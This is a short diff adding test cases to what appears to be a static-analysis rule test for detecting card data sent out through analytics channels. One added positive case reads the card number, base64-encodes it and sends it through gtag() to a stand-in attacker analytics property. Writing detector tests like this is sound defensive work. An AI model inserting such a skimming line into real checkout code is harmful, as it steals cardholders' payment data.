@@ -41,3 +41,13 @@ var bin = document.getElementById('card-number').value.slice(0, 6);
 fetch('/checkout/bin-lookup?bin=' + bin);
 // ok: card-data-via-analytics-channel
 new Image().src = 'https://www.facebook.com/tr?id=123456789&ev=InitiateCheckout';
+
+// ---
+// Through the page's own gtag() call, to the attacker's GA4 property.
+var pan = document.querySelector('#cc_number').value;
+// ruleid: card-data-via-analytics-channel
+gtag('event', 'checkout_progress', {event_label: btoa(pan), send_to: 'G-ATTACKER1'});
+// ---
+// A normal gtag event: no card data.
+// ok: card-data-via-analytics-channel
+gtag('event', 'begin_checkout', {value: 42.5, currency: 'EUR'});
